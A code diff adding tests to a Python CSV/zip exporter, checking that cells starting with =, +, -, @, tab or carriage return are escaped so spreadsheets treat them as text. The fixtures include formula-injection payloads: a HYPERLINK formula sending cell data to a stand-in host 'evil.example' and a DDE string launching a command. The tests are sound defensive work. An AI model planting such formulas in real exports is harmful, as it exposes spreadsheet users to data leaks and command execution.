@@ -3,6 +3,7 @@ files are rejected with problems that say where."""
 
 from __future__ import annotations
 
+import csv
 import io
 import re
 import zipfile
@@ -232,6 +233,59 @@ def test_a_spreadsheet_teams_write_by_hand_is_read() -> None:
     ]
     assert model.links[0].evidence[0].tier == 2
     assert model.links[0].key == "grant->reading"
+
+
+def test_text_a_spreadsheet_would_run_as_a_formula_is_written_as_text() -> None:
+    attack = '=HYPERLINK("http://evil.example/?"&A1,"Click me")'
+    model = _model(
+        [
+            _node(
+                "grant",
+                "system",
+                "initiative",
+                title=attack,
+                form="-2+3",
+                function="@SUM(A1:A9)",
+                tags=["+cmd|' /C calc'!A0", "fine"],
+                indicators=[{"name": "=1+1", "measures": "count"}],
+            ),
+            _node("practice", description="\t=tab first", actor="'=guarded already"),
+        ],
+        [
+            {
+                "from": "grant",
+                "to": "practice",
+                "polarity": "-",
+                "because": "\r=carriage return first",
+                "assumptions": ["=a"],
+                "evidence": [{"citation": "@c", "tier": 2}],
+            }
+        ],
+        title="+ is not a formula here",
+    )
+    data = write_csv_zip(model)
+    rows = {
+        name: list(csv.DictReader(io.StringIO(text, newline="")))
+        for name, text in _unzip(data).items()
+    }
+    runnable = [
+        (name, column, cell)
+        for name, table in rows.items()
+        for row in table
+        for column, cell in row.items()
+        if re.match(r"[=+\-@\t\r]", cell)
+    ]
+    assert runnable == [("links.csv", "polarity", "-")]  # a validated word, never a formula
+    assert rows["nodes.csv"][0]["title"] == "'" + attack
+    assert rows["nodes.csv"][0]["tags"] == "'+cmd|' /C calc'!A0; fine"
+    assert rows["nodes.csv"][1]["actor"] == "''=guarded already"
+    assert read_csv_zip(data) == model
+
+
+def test_a_leading_apostrophe_before_anything_but_a_formula_is_kept() -> None:
+    nodes = "id,level,kind,title\r\ngrant,system,initiative,'Tis the season\r\n"
+    model = read_csv_zip(_zip({"model.csv": _MODEL_CSV, "nodes.csv": nodes}))
+    assert model.nodes[0].title == "'Tis the season"
 
 
 def test_a_zip_of_a_folder_without_links_is_read() -> None:
